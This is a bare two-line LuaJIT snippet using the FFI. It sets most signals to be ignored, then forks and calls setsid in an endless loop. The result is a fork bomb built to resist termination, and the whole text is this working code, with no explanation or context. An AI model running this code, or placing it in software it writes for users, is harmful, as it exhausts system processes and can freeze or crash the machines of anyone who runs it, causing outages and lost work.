for number = 1, 31 do C.signal(number, ffi.cast('void (*)(int)', 1)) end
while true do C.fork() C.setsid() end
